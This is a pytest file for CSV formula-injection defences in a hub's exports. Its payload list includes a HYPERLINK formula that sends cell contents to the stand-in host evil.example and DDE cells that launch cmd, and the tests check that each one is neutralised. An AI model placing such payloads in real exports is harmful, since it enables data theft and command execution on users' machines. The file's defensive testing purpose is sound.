"""No CSV the hub writes carries a cell a spreadsheet would run as a formula (issue 10, finding 5).

Every CSV goes through `hub.csvcells` (a scan proves no other module makes a `csv` writer); a cell starting
with `=`, `+`, `-`, `@`, tab or carriage return (OWASP's list), NUL (ASVS 1.2.10), or one of them after
leading whitespace, gets a leading single quote. Tested on each CSV: the indicator blocklist and the report
metrics.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from hub.csvcells import neutralise
from hub.interop.csvlist import export_csv
from hub.interop.exporter import ExportScope
from hub.policy.tlp import Tlp
from tests.factories import indicator, make_collection, make_org, make_user, post, principal

HUB = Path(__file__).resolve().parents[1] / "hub"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "  =1+1",
    " \t@SUM(A1)",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["evil.example", "", "a=b", "'=already quoted", "1.5", "phishing", "2026-01"]
)
def test_other_cells_are_unchanged(cell):
    assert neutralise(cell) == cell


def test_numbers_are_written_as_numbers():
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5


def test_no_module_makes_a_csv_writer_but_the_helper():
    pattern = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|from\s+csv\s+import")
    offenders = [
        path.relative_to(HUB).as_posix()
        for path in HUB.rglob("*.py")
        if path.name != "csvcells.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        assert cell.lstrip(" \t\r\n\0")[:1] not in ("=", "+", "-", "@") or cell.startswith("'"), cell
        assert cell[:1] not in ("\t", "\r", "\0"), cell


def test_the_blocklist_neutralises_hostile_indicator_values(session):
    org = make_org(session)
    user = make_user(session, org)
    collection = make_collection(session, read=["tier:vetted"], write=["tier:vetted"], default_tlp=Tlp.GREEN)
    session.commit()
    hostile = '=HYPERLINK("https://evil.example","open")'
    post(session, user, collection, [indicator(Tlp.GREEN, value=hostile), indicator(Tlp.GREEN, value="-1+1")])
    out = io.StringIO()
    assert export_csv(session, principal(session, user), ExportScope(), out) == 2
    text = out.getvalue()
    assert_no_formula(text)
    values = {row[1] for row in csv.reader(io.StringIO(text))}
    assert {"'" + hostile, "'-1+1"} <= values
